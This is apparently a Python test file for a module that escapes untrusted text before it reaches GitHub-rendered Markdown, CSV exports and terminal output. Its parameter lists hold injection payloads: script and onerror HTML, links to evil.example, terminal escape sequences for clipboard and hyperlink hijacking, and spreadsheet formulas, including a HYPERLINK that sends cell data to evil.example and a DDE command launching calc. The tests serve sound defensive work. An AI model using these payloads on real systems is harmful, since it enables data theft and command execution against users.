"""Text of others is shown and does nothing: Markdown by GitHub's own parser, CSV by its reader, terminals by byte."""

import ast
import csv
import io
import re
import unicodedata
from html.parser import HTMLParser
from pathlib import Path

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options
from hypothesis import given, settings
from hypothesis import strategies as st

from harness.records import untrusted

PACKAGE = Path(untrusted.__file__).parents[1]
MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</td></tr>", "<!-- hidden", "<?php ?>",
    "[link](http://evil.example)", "![picture](http://evil.example/p.png)", "[ref]: http://evil.example", "<http://e.x>",
    "http://evil.example", "HTTPS://evil.example", "ftp://evil.example", "www.evil.example", "WWW.evil.example",
    "see www.evil.example, now", "(www.evil.example)", "*www.evil.example*", "_www.evil.example_",
    "me@evil.example", "mailto:me@evil.example",
    "me@.evil", "me@-evil.example", "xmpp:me@evil.example/room", "a.b+c-d_e@evil.example.org", "@someone",
    "**bold**", "*it*", "_it_", "__bold__", "~~gone~~", "~gone~", "`code`", "``co`de``", "# heading", "## heading",
    "> quote", "- item", "+ item", "1. item", "2) item", "===", "---", "***", "___", "| a | b |", "a | b", "\\", "\\|",
    "&lt;script&gt;", "&#60;b&#62;", "&copy;", "$x^2$", "$$x$$", "line\n# heading", "line\r\n- item", "[^1]",
    "- [ ] box",
    "```\ncode", "~~~\ncode", "    indented", "\ttab", "a  \nbreak", "\x1b[31mred", "\x1b]52;c;cHduZWQ=\x07",
    "\x1b]8;;http://evil.example\x07here", "\u202egnihtemos", "\x00nul", "\x9b31m", "\x85next", "\u2028line",
    "\ufeffbom",
)  # fmt: skip

TABLE = ["table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td"]


class Tags(HTMLParser):
    """The tags and the text of a page."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.text = [], ""
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        self.text += data


def rendered(markdown) -> Tags:
    return Tags(cmarkgfm.github_flavored_markdown_to_html(markdown, options=Options.CMARK_OPT_UNSAFE))


def seen(text) -> str:
    """The text as a reader sees it: on one line, without what has no shape."""
    return " ".join("".join(sign if sign.isprintable() else " " for sign in text.replace("\u2060", "")).split())


def harmless(text) -> bool:
    return all(sign.isprintable() or sign == "\n" for sign in text)


@pytest.mark.parametrize("text", MARKUP)
def test_escaped_text_is_shown_by_github_as_it_stands(text):
    page = rendered(untrusted.escaped(text))
    assert page.tags == (["p"] if seen(text) else [])
    assert seen(page.text) == seen(text)
    table = rendered(f"| a | b |\n|:--|--:|\n| {untrusted.escaped(text)} | x |")
    assert table.tags == TABLE
    assert rendered(f"# {untrusted.escaped(text)}").tags == ["h1"]
    assert rendered(f"- {untrusted.escaped(text)}").tags == ["ul", "li"]


@pytest.mark.parametrize("text", [*MARKUP, "`", "``", "`` ` ```", "a|b`c"])
def test_code_shows_its_text_and_is_not_left(text):
    page = rendered(f"before {untrusted.inline_code(text)} after")
    assert page.tags == (["p", "code"] if seen(text) else ["p"])
    table = rendered(f"| a | b |\n|:--|--:|\n| {untrusted.inline_code(text)} | x |")
    assert [tag for tag in table.tags if tag != "code"] == TABLE
    assert seen(text) in seen(table.text)
    assert rendered(untrusted.code(text)).tags == ["pre", "code"]


@given(st.text(st.sampled_from("ab1 .:/@_*`[]()<>!|~#&;$\\-+=w\n\t\x1b\u202e"), max_size=30))
@settings(max_examples=300, deadline=None)
def test_any_text_escaped_is_one_paragraph_of_text(text):
    page = rendered(untrusted.escaped(text))
    if seen(text) != "-":  # our sign for an empty cell
        assert page.tags == (["p"] if seen(text) else [])
        assert seen(page.text) == seen(text)


FORMULAS = (
    '=HYPERLINK("http://evil.example?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", " =1+1", "\t=1+1", "\n=1+1",
    "\r=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1+1", "\uff20SUM(A1)", "fine;=1+1", "fine\t=1+1", "fine\n=1+1",
    'fine";=1+1', "\x00=1+1", "\x1b=1+1",
)  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_is_a_formula_however_a_program_splits_it(text, delimiter):
    written = untrusted.to_csv(["name", text], [["before", text], {"name": "x", text: text}])
    for line in csv.reader(io.StringIO(written), delimiter=delimiter):
        for cell in line:
            assert unicodedata.normalize("NFKC", cell.strip())[:1] not in ("=", "+", "-", "@"), line
    assert harmless(written.replace("\t", ""))


def test_no_form_of_a_sign_begins_a_formula():
    signs = [sign for sign in map(chr, range(0x110000)) if unicodedata.normalize("NFKC", sign) in ("=", "+", "-", "@")]
    assert len(signs) == 17
    for sign in signs:
        for before in ("", " ", "\u200b", "\u00a0", "\ufeff", "a;", "a\n", "\t"):
            [[cell]] = csv.reader(io.StringIO(untrusted.to_csv([f"{before}{sign}1+1"], []).replace("\n", " ").strip()))
            assert f"'{sign}1+1" in cell


def test_numbers_and_plain_text_stay_as_they_are():
    row = (-0.5, 3, None, "-0.5", "+1e-5", "-inf", "lora r=8", "a, b", "a-b", 'say "x"', "two\nlines", "caf\u00e9")
    written = untrusted.to_csv([f"c{i}" for i in range(len(row))], [row])
    [_, back] = csv.reader(io.StringIO(written))
    assert back == ["" if value is None else str(value) for value in row]


@pytest.mark.parametrize("text", MARKUP)
def test_a_terminal_obeys_nothing(text, capsys):
    untrusted.echo(f"a: {text}")
    out = capsys.readouterr().out
    assert out.startswith("a: ") and harmless(out.replace("\t", ""))
    assert untrusted.one_line(f"{text}\n\x07{text}").isprintable()


def test_nothing_else_writes_csv_or_prints():
    """A new command or table cannot forget it: these two modules of Python are used in one place each."""
    files = sorted(PACKAGE.rglob("*.py"))
    found = set()
    for path in files:
        for node in ast.walk(ast.parse(path.read_text())):
            name = ast.unparse(node.func) if isinstance(node, ast.Call) else ""
            if name == "print" or re.fullmatch(r"csv\.(writer|DictWriter)|.*\.to_csv|sys\.std(out|err)\.write", name):
                found.add((path.relative_to(PACKAGE).as_posix(), name))
    assert len(files) > 200
    own = {(path, name) for path, name in found if name.endswith(".to_csv")}
    assert found - own == {("records/untrusted.py", "print"), ("records/untrusted.py", "csv.writer")}
    assert {name for _, name in own} <= {"untrusted.to_csv", "tuning.to_csv"}
